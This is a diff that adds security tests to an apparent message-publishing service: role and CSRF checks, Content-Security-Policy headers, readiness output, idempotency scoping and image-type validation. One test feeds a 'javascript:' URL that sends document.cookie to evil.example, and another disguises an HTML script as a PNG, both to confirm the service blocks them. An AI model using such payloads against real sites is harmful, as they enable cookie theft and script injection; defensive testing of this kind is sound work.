@@ -3,24 +3,39 @@ a missing or weak role, and every state-changing page a missing CSRF token."""
 
 from __future__ import annotations
 
+import base64
 import hashlib
 import re
+from pathlib import Path
 
 import aiohttp
+import psycopg
 
-from tests.harness import Harness
+from tests.harness import Harness, eventually, start_daemon, write_config
 from tests.peers.mastodon_api import TOKEN as MASTO_TOKEN
+from tests.peers.postgres_db import ADMIN_DSN, throwaway_database
+from tests.peers.samples import PNG
+from tests.peers.webhook_receiver import WebhookReceiver
 from tests.web.conftest import HOOK_SECRET
 from tests.web.web_session import login
 
+FEED_ONLY = """
+[channels.status]
+type = "feed"
+
+[routes.default]
+tiers = [["status"]]
+"""
 # Every state-changing API endpoint, the role it needs, and a valid body.
 API_CHANGES = [
     ("POST", "/api/v1/messages", "publisher", {"text": "hello"}),
     ("PATCH", "/api/v1/messages/{id}", "publisher", {"text": "edited"}),
     ("POST", "/api/v1/messages/{id}/cancel", "publisher", None),
+    ("POST", "/api/v1/messages/{id}/retract", "publisher", None),
     ("POST", "/api/v1/channels/hook/force", "operator", {"state": "down"}),
     ("POST", "/api/v1/tokens", "admin", {"name": "n", "role": "viewer"}),
     ("DELETE", "/api/v1/tokens/{token}", "admin", None),
+    ("DELETE", "/api/v1/sessions/{session}", "admin", None),
 ]
 WEAKER = {"publisher": "viewer", "operator": "publisher", "admin": "operator"}
 # Every state-changing page and the role it needs.
@@ -29,9 +44,12 @@ UI_CHANGES = {
     "/ui/preview": "publisher",
     "/ui/messages/{id}/cancel": "publisher",
     "/ui/messages/{id}/edit": "publisher",
+    "/ui/messages/{id}/move": "publisher",
+    "/ui/messages/{id}/retract": "publisher",
     "/ui/channels/hook/force": "operator",
     "/ui/tokens": "admin",
     "/ui/tokens/{token}/revoke": "admin",
+    "/ui/sessions/{session}/end": "admin",
     "/ui/logout": "viewer",
 }
 
@@ -48,10 +66,14 @@ def _post_routes(web: Harness, prefix: str) -> set[str]:
 
 async def test_the_lists_cover_every_state_changing_route(web: Harness) -> None:
     api = {p.replace("{name}", "hook") for p in _post_routes(web, "/api/")}
-    assert api == {path.replace("{token}", "{id}") for _, path, _, _ in API_CHANGES} | {
+    assert api == {
+        path.replace("{token}", "{id}").replace("{session}", "{id}")
+        for _, path, _, _ in API_CHANGES
+    } | {
         "/api/v1/preview"  # reads only; needs a token like every API call
     }
     ui = {p.replace("{name}", "hook").replace("/tokens/{id}", "/tokens/{token}")
+          .replace("/sessions/{id}", "/sessions/{session}")
           for p in _post_routes(web, "/ui/")}  # fmt: skip
     assert ui == set(UI_CHANGES) | {"/ui/login"}
 
@@ -61,7 +83,7 @@ async def test_api_changes_refuse_a_missing_or_weak_role(web: Harness) -> None:
     _, token = await web.request("POST", "/api/v1/tokens", json={"name": "t", "role": "viewer"})
     async with aiohttp.ClientSession() as s:
         for method, path, role, body in API_CHANGES:
-            url = web.url + path.format(id=m["id"], token=token["id"])
+            url = web.url + path.format(id=m["id"], token=token["id"], session=999)
             async with s.request(method, url, json=body) as r:
                 assert r.status == 401, (method, path, r.status)
                 assert r.content_type == "application/problem+json"
@@ -78,7 +100,7 @@ async def test_ui_changes_refuse_missing_csrf_missing_session_and_weak_role(web:
     admin, admin_csrf = await login(web.url, web.tokens["admin"])
     async with admin, aiohttp.ClientSession() as anonymous:
         for path, role in UI_CHANGES.items():
-            url = web.url + path.format(id=m["id"], token=token["id"])
+            url = web.url + path.format(id=m["id"], token=token["id"], session=999)
             form = {"state": "down", "name": "x", "role": "viewer", "text": "t"}
             async with anonymous.post(url, data={**form, "csrf": admin_csrf}) as r:
                 assert r.status == 403, (path, "no session", r.status)
@@ -151,3 +173,158 @@ async def test_no_page_or_endpoint_reveals_a_secret_or_a_token_hash(web: Harness
         for value in forbidden:
             assert value not in text, f"{path} reveals a secret"
     assert "watch this" in seen["/ui/"] and "watch this" in seen["/status/"]  # pages are real
+
+
+# -- output that stays well-formed ---------------------------------------------------------
+
+
+async def test_status_files_carry_their_content_types_and_security_headers(web: Harness) -> None:
+    m = await web.post(text="all good", route="fediverse")
+    await web.wait_state(m["id"], "delivered")
+    async with aiohttp.ClientSession() as s:
+        async with s.get(web.url + "/status/") as r:
+            assert r.status == 200 and r.content_type == "text/html"
+            csp = r.headers["Content-Security-Policy"]
+            html = await r.read()
+            assert r.headers["X-Content-Type-Options"] == "nosniff"
+            assert r.headers["Referrer-Policy"] == "strict-origin-when-cross-origin"
+        assert "default-src 'none'" in csp and "unsafe-inline" not in csp
+        script = re.search(rb"<script>(.*?)</script>", html, re.DOTALL)
+        assert script is not None  # its hash, and nothing else inline, may run
+        digest = base64.b64encode(hashlib.sha256(script[1]).digest()).decode()
+        assert f"script-src 'self' 'sha256-{digest}'" in csp
+        for name, kind in [("feed.atom", "application/atom+xml"),
+                           ("feed.json", "application/feed+json")]:  # fmt: skip
+            async with s.get(web.url + "/status/" + name) as r:
+                assert r.status == 200 and r.content_type == kind, name
+                assert r.headers["X-Content-Type-Options"] == "nosniff"
+
+
+async def test_a_receipt_url_becomes_a_link_only_if_it_is_http(
+    web: Harness, hook: WebhookReceiver
+) -> None:
+    hook.answer_url = "javascript:fetch('//evil.example/'+document.cookie)//{n}"
+    m = await web.post(text="evil receiver")
+    await web.wait_state(m["id"], "delivered")
+    hook.answer_url = "https://hooks.example/{n}"
+    good = await web.post(text="good receiver")
+    await web.wait_state(good["id"], "delivered")
+    assert (await web.message(m["id"]))["deliveries"][0]["url"] is None
+    assert (await web.message(good["id"]))["deliveries"][0]["url"].startswith("https://")
+    s, _ = await login(web.url, web.tokens["viewer"])
+    async with s:
+        for path in ("/ui/", f"/ui/messages/{m['id']}"):
+            async with s.get(web.url + path) as r:
+                html = await r.text()
+            assert not re.search(r"""(href|src)=["']?\s*javascript:""", html), path
+        async with s.get(web.url + f"/ui/messages/{good['id']}") as r:
+            assert 'href="https://hooks.example/' in await r.text()
+
+
+async def test_readyz_shows_no_driver_text(tmp_path: Path) -> None:
+    with throwaway_database() as dsn:
+        path = write_config(tmp_path, FEED_ONLY)
+        path.write_text(f'store = "{dsn}"\n' + path.read_text())
+        h = await start_daemon(path)
+        name = dsn.rsplit("/", 1)[1]
+        try:
+            assert await h.request("GET", "/readyz", role=None) == (200, {"status": "ready"})
+            with psycopg.connect(ADMIN_DSN, autocommit=True) as admin:
+                admin.execute(f'ALTER DATABASE "{name}" ALLOW_CONNECTIONS false')
+                admin.execute(
+                    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = %s",
+                    (name,),
+                )
+
+            async def not_ready() -> bool:
+                return (await h.request("GET", "/readyz", role=None))[0] == 503
+
+            await eventually(not_ready)  # the write check runs on its own beat
+            _, body = await h.request("GET", "/readyz", role=None)
+            assert body["status"] == "not ready"
+            for driver_text in (name, "postgres", "127.0.0.1", "5432", "PostgreSQL"):
+                assert driver_text not in body["reason"], body
+        finally:
+            with psycopg.connect(ADMIN_DSN, autocommit=True) as admin:
+                admin.execute(f'ALTER DATABASE "{name}" ALLOW_CONNECTIONS true')
+            await eventually(lambda: _ready(h))  # the pool has dropped its dead connections
+            await h.daemon.stop()
+
+
+async def _ready(h: Harness) -> bool:
+    return (await h.request("GET", "/readyz", role=None))[0] == 200
+
+
+# -- authority and integrity ---------------------------------------------------------------
+
+
+async def test_publishers_cannot_post_to_internal_routes(tmp_path: Path) -> None:
+    config = FEED_ONLY + '\n[alerts]\nchannels = ["status"]\n'
+    h = await start_daemon(write_config(tmp_path, config))
+    try:
+        status, body = await h.request(
+            "POST", "/api/v1/messages", role="publisher", json={"text": "fake", "route": "_alerts"}
+        )
+        assert status == 422 and body["field"] == "route", body
+        assert "_alerts" not in body["detail"].partition("known:")[2]
+        status, body = await h.request(
+            "POST", "/api/v1/preview", json={"text": "fake", "route": "_alerts"}
+        )
+        assert status == 422 and body["field"] == "route"
+        _, messages = await h.request("GET", "/api/v1/messages")
+        assert messages["items"] == []
+        # Operators may: a drill sends its test message to the operators' own route.
+        status, body = await h.request(
+            "POST", "/api/v1/messages", role="operator", json={"text": "drill", "route": "_alerts"}
+        )
+        assert status == 201 and body["route"] == "_alerts", body
+    finally:
+        await h.daemon.stop()
+
+
+async def test_idempotency_keys_are_scoped_per_token(web: Harness) -> None:
+    _, other = await web.request("POST", "/api/v1/tokens", json={"name": "b", "role": "publisher"})
+    key = {"Idempotency-Key": "campaign-42"}
+    a = await web.post(text="from A", headers=key)
+    async with aiohttp.ClientSession() as s:
+        b_headers = {**key, "Authorization": f"Bearer {other['token']}"}
+        async with s.post(web.url + "/api/v1/messages", json={"text": "from B"},
+                          headers=b_headers) as r:  # fmt: skip
+            assert r.status == 201  # B's key names B's message, not A's (no replay, no 409)
+            b = await r.json()
+    assert b["id"] != a["id"] and b["text"] == "from B" and b["idempotency_key"] == "campaign-42"
+    again = await web.post(text="from A", headers=key)
+    assert again["id"] == a["id"]  # A's own replay still works
+    status, _ = await web.request("POST", "/api/v1/messages", role="publisher",
+                                  json={"text": "changed"}, headers=key)  # fmt: skip
+    assert status == 409
+
+
+async def test_image_bytes_must_match_their_declared_type(web: Harness) -> None:
+    html = base64.b64encode(b"<html><script>alert(1)</script></html>").decode()
+    status, body = await web.request("POST", "/api/v1/messages", role="publisher", json={
+        "text": "look", "images": [{"data": html, "content_type": "image/png"}]})  # fmt: skip
+    assert status == 422 and body["field"] == "images.0.data", body
+    assert "image/png" in body["detail"]
+    gif_as_png = base64.b64encode(b"GIF89a" + b"\0" * 20).decode()
+    status, body = await web.request("POST", "/api/v1/messages", role="publisher", json={
+        "text": "look", "images": [{"data": gif_as_png, "content_type": "image/png"}]})  # fmt: skip
+    assert status == 422 and body["field"] == "images.0.data"
+    ok = base64.b64encode(PNG).decode()
+    m = await web.post(text="look", images=[{"data": ok, "content_type": "image/png"}])
+    assert m["images"][0]["size"] == len(PNG)
+
+
+async def test_images_are_checked_against_every_channel_the_route_can_reach(
+    web: Harness,
+) -> None:
+    # The default route reaches the webhook (5 MB), Mastodon (8 MB) and the feed (10 MB).
+    six_mb = base64.b64encode(PNG + b"\0" * (6 * 1024 * 1024 - len(PNG))).decode()
+    status, body = await web.request("POST", "/api/v1/messages", role="publisher", json={
+        "text": "big", "images": [{"data": six_mb, "content_type": "image/png"}]})  # fmt: skip
+    assert status == 422 and body["field"] == "images.0.data", body
+    assert "channel hook takes at most 5242880" in body["detail"]
+    media = web.daemon.media_dir
+    assert not media.exists() or list(media.iterdir()) == []  # nothing stored
+    _, messages = await web.request("GET", "/api/v1/messages")
+    assert messages["items"] == []
